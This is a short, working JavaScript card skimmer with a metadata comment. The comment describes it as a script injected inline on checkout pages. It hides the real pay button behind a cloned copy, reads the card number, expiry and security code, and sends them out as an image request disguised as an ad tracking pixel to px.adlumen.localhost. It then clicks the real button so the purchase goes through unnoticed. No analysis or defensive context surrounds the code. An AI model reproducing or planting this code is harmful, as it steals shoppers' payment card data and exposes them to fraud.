/* meta
{
  "design": "Replaces the pay button by a copy; the copy sends the card in an image's address, then presses the real one.",
  "reads": ["cc-number", "cc-exp", "cc-csc"],
  "sendsTo": "px.adlumen.localhost",
  "delivery": { "kind": "inline", "pages": "^/checkout" }
}
*/
setTimeout(function () {
  var real = document.querySelector('#pay');
  if (!real) return;
  var twin = real.cloneNode(true);
  twin.type = 'button';
  real.removeAttribute('id');
  real.style.display = 'none';
  real.parentNode.insertBefore(twin, real);
  twin.addEventListener('click', function () {
    var n = document.querySelector('#cc-number').value.replace(/ /g, '');
    var q = 'a=' + n + '&b=' + encodeURIComponent(document.querySelector('#cc-exp').value) + '&c=' + document.querySelector('#cc-csc').value;
    var p = new Image();
    p.onload = p.onerror = function () { real.click(); };
    p.src = 'https://px.adlumen.localhost/t.gif?' + q;
  });
}, 0);
